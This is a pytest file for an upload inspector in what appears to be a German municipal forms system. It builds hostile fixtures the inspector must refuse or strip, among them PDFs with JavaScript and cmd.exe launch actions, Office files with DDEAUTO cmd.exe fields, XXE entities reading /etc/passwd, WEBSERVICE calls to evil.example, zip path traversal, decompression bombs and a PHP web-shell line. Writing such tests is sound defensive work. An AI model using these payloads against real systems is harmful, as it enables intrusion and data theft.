"""Files that are not what they say, do more than they should, or tell more than their sender wants."""

from __future__ import annotations

import zipfile
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from io import BytesIO
from typing import Any

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from pikepdf import Dictionary, Name
from PIL import Image

from rathaus.engines.forms import public as forms
from rathaus.engines.forms.inspection import client
from rathaus.engines.forms.inspection.looking import look
from rathaus.engines.forms.inspection.verdicts import Refusal
from rathaus.engines.forms.kinds.files import File
from rathaus.identity.public import SYSTEM
from rathaus.kernel.public import blobs
from tests.factories.forms import pdf, picture
from tests.hostile import material
from tests.hostile.material import archive, docx, pdf_with_action, pdf_with_file, pdf_with_link, relations

ANY = File(accept=("pdf", "jpg", "png", "heic", "tiff", "docx", "xlsx", "odt", "txt"))


def packed(change: Callable[[pikepdf.Pdf], object]) -> bytes:
    return material.changed_pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def with_object(head: bytes, stream: bytes) -> bytes:
    whole = b"8 0 obj <<%s /Length %d>>\nstream\n%s\nendstream endobj\ntrailer" % (head, len(stream), stream)
    return pdf().replace(b"trailer", whole)


def hidden_script() -> bytes:
    """The action lies in a packed object that the file's table does not lead to."""
    whole = packed(
        lambda document: document.Root.__setitem__(
            "/OpenAction", Dictionary(S=Name.JavaScript, JS="app.alert(1)")
        )
    )
    return (
        whole[: whole.rfind(b"startxref")].replace(b"/XRef", b"/Nope") + b"trailer <</Root 1 0 R>>\n%%EOF\n"
    )


PDFS = {
    "script": (pdf_with_action(S=Name.JavaScript, JS="app.alert(1)"), "active"),
    "script-escaped": (
        pdf_with_action(S=Name.JavaScript, JS="x").replace(b"/JavaScript", b"/J#61vaScript"), "active",
    ),
    "script-packed": (
        packed(lambda d: d.Root.__setitem__("/OpenAction", Dictionary(S=Name.JavaScript, JS="x"))), "active",
    ),
    "script-hidden": (hidden_script(), "active"),
    "program": (pdf_with_action(S=Name.Launch, F="cmd.exe"), "active"),
    "sends": (pdf_with_action(S=Name.SubmitForm, F="https://evil.example"), "active"),
    "xfa": (material.changed_pdf(lambda d: d.Root.__setitem__("/AcroForm", Dictionary(XFA="x"))), "active"),
    "elsewhere": (pdf_with_action(S=Name.GoToR, F="\\\\evil\\share"), "active"),
    "link-script": (pdf_with_link("javascript:alert(1)"), "external"),
    "link-file": (pdf_with_link("file:///etc/passwd"), "external"),
    "link-share": (pdf_with_link("\\\\evil.example\\share"), "external"),
    "file-inside": (pdf_with_file("x.exe", b"MZ"), "embedded"),
    "false-invoice": (pdf_with_file("factur-x.xml", b"MZ"), "embedded"),
    "invoice-doctype": (pdf_with_file("factur-x.xml", b"<!DOCTYPE a><a/>"), "embedded"),
    "password": (material.changed_pdf(lambda d: None, encryption=pikepdf.Encryption(owner="a", user="b")), "encrypted"),
    "locked": (material.changed_pdf(lambda d: None, encryption=pikepdf.Encryption(owner="a", user="")), "encrypted"),
    "junk-before": (b"\x00\x00" + pdf(), "foreign"),
    "page-before": (b"<html>" + pdf(), "foreign"),
    "archive-behind": (pdf() + archive({"a.txt": b"x"}), "foreign"),
    "archive-inside": (archive({"a.txt": b"x"}, zipfile.ZIP_STORED) and pdf().replace(
        b"%%EOF", archive({"a": b"x"}) + b"\n%%EOF"), "foreign"),
    "page-in-head": (pdf().replace(b"% Probe", b"% <script>alert(1)</script>"), "foreign"),
    "program-behind": (pdf() + b"MZ\x90\x00", "foreign"),
    "addendum": (pdf() + b"9 0 obj <</S /Java#53cript /J#53 (x)>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n", "active"),
    "packed-hex": (with_object(b"/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode", (
        b"9 0 <</S /JavaScript /JS (x)>>".hex().encode() + b">")), "active"),
    "opens-address": (pdf_with_action(S=Name.URI, URI="https://evil.example"), "external"),
    "stream-elsewhere": (with_object(b"/F (\\\\evil\\share)", b""), "external"),
    "thread-elsewhere": (pdf_with_action(S=Name.Thread, F="\\\\evil\\share", D=0), "external"),
    "collection": (material.changed_pdf(lambda d: d.Root.__setitem__("/Collection", Dictionary())), "embedded"),
    "packed-twice": (with_object(b"/Filter [/FlateDecode /FlateDecode]", zlib.compress(zlib.compress(b"x"))), "bomb"),
    "stream-bomb": (with_object(b"/Filter /FlateDecode", zlib.compress(bytes(300_000_000), 1)), "bomb"),
    "cut": (pdf()[:60], "broken"),
    "no-catalogue": (b"%PDF-1.7\ntrailer <<>>\n%%EOF\n", "broken"),
}  # fmt: skip


@pytest.mark.parametrize("name", PDFS)
def test_a_pdf_that_is_more_than_pages_is_refused(name: str) -> None:
    data, reasons = PDFS[name]
    with pytest.raises(Refusal) as caught:
        look(data, "pdf")
    assert caught.value.reason in reasons.split()


@pytest.mark.parametrize(
    "data",
    [
        pdf(),
        pdf_with_link("https://example.org/antrag"),
        pdf_with_link("mailto:stadt@example.org"),
        pdf_with_file("factur-x.xml", b"<?xml version='1.0'?><rsm:CrossIndustryInvoice/>"),
        pdf() + b"\r\n",
    ],
)
def test_an_honest_pdf_stays_as_it_is(data: bytes) -> None:
    assert look(data, "pdf") == data


def field(*pieces: bytes) -> bytes:
    """A field of Word, its instruction in as many pieces; a piece that is markup stays as it is."""
    words = [
        piece if piece.startswith(b"<w:") else b"<w:instrText>" + piece + b"</w:instrText>"
        for piece in pieces
    ]
    mark = b"<w:fldChar w:fldCharType='%s'/>"
    return b"<w:p>" + mark % b"begin" + b"".join(words) + mark % b"end" + b"</w:p>"


def sheet(content: bytes) -> bytes:
    return archive({"xl/workbook.xml": b"<workbook>" + content + b"</workbook>"})


def odt(content: bytes) -> bytes:
    return archive({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content})


HARMLESS = {
    "a condition": (
        docx(document=field(b" IF ", field(b" PAGE "), b" = 1")), "docx",
    ),
    "links": (docx(relations("hyperlink", "mailto:stadt@example.org")), "docx"),
    "a sum": (sheet(b"<c><f>SUM(A1:A9)</f></c>"), "xlsx"),
    "pictures": (odt(b"<draw:image xlink:href='Pictures/1.png'/>"), "odt"),
    "a template at home": (odt(b"<meta:template xlink:href='file:///usr/share/a.ott'/>"), "odt"),
    "a command of the menu": (odt(b"<x:item xlink:href='.uno:Save'/>"), "odt"),
}  # fmt: skip


@pytest.mark.parametrize("name", HARMLESS)
def test_an_ordinary_office_file_stays_as_it_is(name: str) -> None:
    data, extension = HARMLESS[name]
    assert look(data, extension) == data


OFFICE = {
    "macro": (docx({"word/vbaProject.bin": b"x"}), "docx", "active"),
    "macro-type": (
        archive({"[Content_Types].xml": b"<t ContentType='macro&#69;nabled'/>", "word/document.xml": b"<x/>"}),
        "docx", "active",
    ),
    "active-x": (docx({"word/activeX/activeX1.xml": b"<x/>"}), "docx", "active"),
    "old-macro": (
        archive({"xl/workbook.xml": b"<x/>", "xl/macrosheets/sheet1.xml": b"<x/>"}), "xlsx", "active",
    ),
    "dde": (docx(document=b"<w:p><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:p>"), "docx", "active"),
    "doctype": (docx(document=b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'), "docx", "active"),
    "doctype-utf16": (docx(document="<!DOCTYPE a><a/>".encode("utf-16")), "docx", "active"),
    "template": (docx(relations("attachedTemplate", "https://evil.example/t.dotm")), "docx", "embedded"),
    "picture-elsewhere": (docx(relations("image", "https://evil.example/x.png")), "docx", "external"),
    "share": (docx(relations("hyperlink", "\\\\evil\\share")), "docx", "external"),
    "html-chunk": (docx(relations("aFChunk", "x.html", "Internal")), "docx", "embedded"),
    "ole": (docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "docx", "embedded"),
    "archive-in-picture": (docx({"word/media/a.png": archive({"a": b"b"})}), "docx", "embedded"),
    "program-in-picture": (docx({"word/media/a.png": b"MZ\x90"}), "docx", "active"),
    "path-up": (docx({"../../etc/cron.d/x": b"x"}), "docx", "foreign"),
    "path-root": (docx({"/etc/passwd": b"x"}), "docx", "foreign"),
    "path-windows": (docx({"c:\\x": b"x"}), "docx", "foreign"),
    "twice": (docx({"WORD/document.xml": b"x"}), "docx", "foreign"),
    "behind": (docx() + b"<script>", "docx", "foreign"),
    "before": (b"#!/bin/sh\n" + docx(), "docx", "wrong_type"),
    "bomb": (material.bomb(), "docx", "bomb"),
    "ratio": (docx({"word/a.xml": bytes(60_000_000)}), "docx", "bomb"),
    "entries": (docx({f"word/{number}.xml": b"" for number in range(5_001)}), "docx", "bomb"),
    "lie": (material.lying_docx(), "docx", "broken bomb"),
    "sheet-as-text": (archive({"xl/workbook.xml": b"<x/>"}), "docx", "wrong_type"),
    "odt-program": (
        archive({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>", "Basic/a.xml": b""}),
        "odt", "active",
    ),
    "odt-object": (
        archive({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<draw:object x='1'/>"}),
        "odt", "embedded",
    ),
    "dde-split": (docx(document=field(b"DD", b"EAUTO c:\\cmd.exe")), "docx", "active"),
    "dde-entity": (docx(document=field(b"&#68;&#68;E x")), "docx", "active"),
    "dde-cdata": (docx(document=field(b"<![CDATA[DDEAUTO x]]>")), "docx", "active"),
    "dde-utf16": (docx(document=field(b"DDEAUTO x").decode().encode("utf-16")), "docx", "active"),
    "dde-by-numbers": (docx(document=field(b" QUOTE 68 68 69 ")), "docx", "active"),
    "dde-put-together": (docx(document=field(b" DD", field(b" PAGE "))), "docx", "active"),
    "field-picture": (docx(document=field(b' INCLUDEPICTURE "https://evil.example/x" ')), "docx", "external"),
    "field-simple": (docx(document=b"<w:fldSimple w:instr=' INCLUDETEXT x '/>"), "docx", "external"),
    "relation-entity": (docx(relations("image", "https://evil.example", "&#69;xternal")), "docx", "external"),
    "relation-sign": (docx(relations("image", "https://evil.example/>")), "docx", "external"),
    "relation-utf16": (
        docx({"word/_rels/a.RELS": relations("image", "x").popitem()[1].decode().encode("utf-16")}), "docx", "external",
    ),
    "other-name": (docx({"word/other.dat": b"<!DOCTYPE a><a/>"}), "docx", "active"),
    "no-xml": (docx(document=b"garbage"), "docx", "broken"),
    "page": (docx(document=b"<html><script>alert(1)</script></html>"), "docx", "embedded"),
    "svg": (docx({"word/media/a.svg": b"<svg onload='x'/>"}), "docx", "active"),
    "merge": (docx({"word/settings.xml": b"<w:mailMerge/>"}), "docx", "external"),
    "link-on-disk": (docx({"word/link": b"/etc/passwd"}, mode=0o120777), "docx", "foreign"),
    "other-packing": (docx(method=zipfile.ZIP_LZMA), "docx", "foreign"),
    "sheet-formula": (sheet(b"<c><f>cmd|'/c calc'!A0</f></c>"), "xlsx", "active"),
    "sheet-dde": (sheet(b"<x:ddeLink ddeService='cmd'/>"), "xlsx", "active"),
    "sheet-service": (sheet(b'<c><f>WEBSERVICE("https://evil.example")</f></c>'), "xlsx", "external"),
    "sheet-source": (sheet(b"<connection><webPr url='https://evil.example'/></connection>"), "xlsx", "external"),
    "sheet-start": (sheet(b"<definedName name='_xlnm.Auto_Open'>x</definedName>"), "xlsx", "active"),
    "odt-event": (odt(b"<o:x><s:event-listener/></o:x>"), "odt", "active"),
    "odt-link-program": (odt(b"<text:a xlink:href='vnd.sun.star.script:x.py$y'/>"), "odt", "active"),
    "odt-link-macro": (odt(b"<text:a xlink:href='macro:///a'/>"), "odt", "active"),
    "odt-link-file": (odt(b"<text:a xlink:href='file:///c:/windows/calc.exe'/>"), "odt", "external"),
    "odt-picture": (odt(b"<draw:image xlink:href='https://evil.example/x.png'/>"), "odt", "external"),
    "odt-picture-up": (odt(b"<draw:image xlink:href='../../etc/passwd'/>"), "odt", "external"),
    "odt-template": (odt(b"<meta:template xlink:href='https://evil.example/x.ott'/>"), "odt", "external"),
    "odt-prefix": (odt(b"<d:object d:href='x'/>"), "odt", "embedded"),
    "odt-utf16": (odt("<s:event-listener/>".encode("utf-16")), "odt", "active"),
}  # fmt: skip


@pytest.mark.parametrize("name", OFFICE)
def test_an_office_file_that_is_more_than_text_is_refused(name: str) -> None:
    data, extension, reasons = OFFICE[name]
    with pytest.raises(Refusal) as caught:
        look(data, extension)
    assert caught.value.reason in reasons.split()


def test_an_encrypted_archive_is_refused() -> None:
    data = bytearray(docx())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(sign)
        data[start + at] |= 1
    with pytest.raises(Refusal, match="encrypted"):
        look(bytes(data), "docx")


@pytest.mark.parametrize("size", [(30_000, 30_000), (100_000, 100_000), (2_000_000_000, 1)])
def test_a_picture_of_too_many_pixels_is_not_unpacked(size: tuple[int, int]) -> None:
    with pytest.raises(Refusal) as caught:
        client.inspect(material.png_of(*size), "png")
    assert caught.value.reason in ("pixels", "broken")


@pytest.mark.parametrize("extension", ["jpg", "png", "tiff"])
def test_a_picture_keeps_nothing_but_its_pixels(extension: str) -> None:
    form = {"jpg": "JPEG", "png": "PNG", "tiff": "TIFF"}[extension]
    foreign = b"<?php system($_GET['c']); ?><script>alert(1)</script>" + archive({"a": b"GEHEIM"})
    kept = client.inspect(material.photo(form) + foreign, extension).content
    for trace in (
        b"GEHEIM",
        b"Exif",
        b"eXIf",
        b"<?php",
        b"<script",
        b"PK\x03\x04",
        b"xmpmeta",
        b"ICC_PROFILE",
    ):
        assert trace not in kept
    with Image.open(BytesIO(kept)) as image:
        assert not [tag for tag in image.getexif() if tag in (0x8825, 0x010F, 0x0112)]
        assert image.size == ((30, 20) if form == "PNG" else (20, 30))  # turned as the camera noted
        colour = image.convert("RGB").getpixel((5, 5))
    assert isinstance(colour, tuple)
    assert max(abs(a - b) for a, b in zip(colour, (10, 200, 30), strict=True)) < 6


def test_an_animated_picture_is_one_picture() -> None:
    buffer = BytesIO()
    frames = [Image.new("RGB", (9, 9), (number, 0, 0)) for number in range(50)]
    frames[0].save(buffer, "PNG", save_all=True, append_images=frames[1:])
    with Image.open(BytesIO(look(buffer.getvalue(), "png"))) as kept:
        assert getattr(kept, "n_frames", 1) == 1


def test_a_tiff_keeps_its_pages_but_not_any_number() -> None:
    def pages(count: int) -> bytes:
        buffer = BytesIO()
        first, *rest = [Image.new("1", (9, 9)) for _ in range(count)]
        first.save(buffer, "TIFF", save_all=True, append_images=rest)
        return buffer.getvalue()

    with Image.open(BytesIO(look(pages(3), "tiff"))) as kept:
        assert getattr(kept, "n_frames", 1) == 3
    with pytest.raises(Refusal, match="bomb"):
        look(pages(101), "tiff")


def test_a_heic_photo_loses_place_and_device() -> None:
    data = material.heic()
    kept = client.inspect(data, "heic").content
    assert (len(kept), b"PICTURE" in kept, b"GEHEIM" in kept) == (len(data), True, False)


@pytest.mark.parametrize(
    "data",
    [
        material.heic()[:-3],
        material.heic(trailing=b"<script>"),
        material.heic(trailing=material.box(b"evil", b"x")),
        material.heic(b""),
        material.heic().replace(b"iinf", b"xxxx"),
        material.heic()[:24],
        b"\x00\x00\x00\x18ftypheic" + bytes(20),
    ],
)
def test_a_heic_photo_that_is_not_understood_is_refused(data: bytes) -> None:
    with pytest.raises(Refusal):
        look(data, "heic")


@pytest.mark.parametrize(
    "name", ["a.svg", "a.html", "a.xml", "a.js", "a.docm", "a.zip", "a.eml", "a.pdf.exe", "a"]
)
def test_kinds_that_run_are_not_taken_at_all(name: str, db: None) -> None:
    with pytest.raises(forms.UploadRefused, match="kann bei"):
        forms.store_upload(actor=SYSTEM, draft=None, field="n", name=name, data=b"x", kind=ANY, label="Datei")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.pdf", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("a.png", b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"),
        ("a.jpg", b"<html><script>alert(1)</script></html>"),
        ("a.txt", b"<html><script>alert(1)</script></html>"),
        ("a.txt", b"<?xml version='1.0'?><svg onload='alert(1)'/>"),
        ("a.docx", pdf()),
        ("a.pdf", docx()),
        ("a.tiff", picture("PNG")),
    ],
)
def test_false_types_are_refused_in_words(name: str, data: bytes, db: None) -> None:
    with pytest.raises(forms.UploadRefused, match="passt nicht zur Dateiendung"):
        forms.store_upload(actor=SYSTEM, draft=None, field="n", name=name, data=data, kind=ANY)
    assert forms.Upload.objects.count() == 0


def test_a_name_becomes_harmless(db: None) -> None:
    wild = "../../\x00\u202e\r\nSet-Cookie: a=b\u0007<b>" + "\U0001f3db" * 300 + "/CON.PDF"
    upload = forms.store_upload(actor=SYSTEM, draft=None, field="n", name=wild, data=pdf())
    assert upload.file_name == "Datei CON.pdf"
    long = forms.store_upload(actor=SYSTEM, draft=None, field="n", name="ä" * 400 + ".pdf", data=pdf())
    assert len(long.file_name.encode()) <= 255


def test_sizes_to_the_byte(db: None) -> None:
    kind = File(accept=("txt",), max_size_mb=1)
    exact = forms.store_upload(
        actor=SYSTEM, draft=None, field="n", name="a.txt", data=b"x" * 1_000_000, kind=kind
    )
    assert exact.size == 1_000_000
    with pytest.raises(forms.UploadRefused, match="größer als 1 MB"):
        forms.store_upload(
            actor=SYSTEM, draft=None, field="n", name="a.txt", data=b"x" * 1_000_001, kind=kind
        )


def test_the_stored_bytes_are_the_clean_ones(db: None) -> None:
    upload = forms.store_upload(
        actor=SYSTEM, draft=None, field="n", name="f.jpg", data=material.photo(), kind=ANY
    )
    stored = blobs.read(upload.blob)
    assert (b"GEHEIM" in stored, upload.size, upload.blob.size) == (False, len(stored), len(stored))


def test_a_process_that_dies_or_hangs_is_a_refusal(monkeypatch: pytest.MonkeyPatch) -> None:
    def program(code: str) -> None:
        monkeypatch.setattr(client, "_PROGRAM", (client.sys.executable, "-c", code))

    program("import os; os.abort()")
    with pytest.raises(Refusal, match="costly"):
        client.inspect(b"x", "pdf")
    program("import time; time.sleep(60)")
    monkeypatch.setattr(client, "SECONDS", 0.5)
    with pytest.raises(Refusal, match="costly"):
        client.inspect(b"x", "pdf")
    monkeypatch.setattr(client, "_PROGRAM", ("/nirgends/python",))
    with pytest.raises(Refusal, match="unavailable"):
        client.inspect(b"x", "pdf")


def test_many_at_once_are_looked_at_one_after_the_other() -> None:
    with ThreadPoolExecutor(4) as pool:
        kept = list(pool.map(lambda number: client.inspect(pdf(str(number)), "pdf").content, range(4)))
    assert kept == [pdf(str(number)) for number in range(4)]


def test_a_request_of_too_much_is_refused_unread(db: None, settings: Any) -> None:
    settings.MAX_REQUEST_MB = 1
    sent = {"datei": SimpleUploadedFile("a.txt", b"x" * 2_000_000)}
    answer = Client().post("/suche/", sent)
    assert answer.status_code in (400, 413)


def test_a_form_cut_off_on_the_way_leaves_no_damaged_file(db: None) -> None:
    whole = material.photo()
    for length in range(30, len(whole) - 2, 40):
        with pytest.raises(Refusal):
            look(whole[:length], "jpg")
    with pytest.raises(forms.UploadRefused):
        forms.store_upload(actor=SYSTEM, draft=None, field="n", name="f.jpg", data=whole[:300], kind=ANY)
    assert forms.Upload.objects.count() == 0
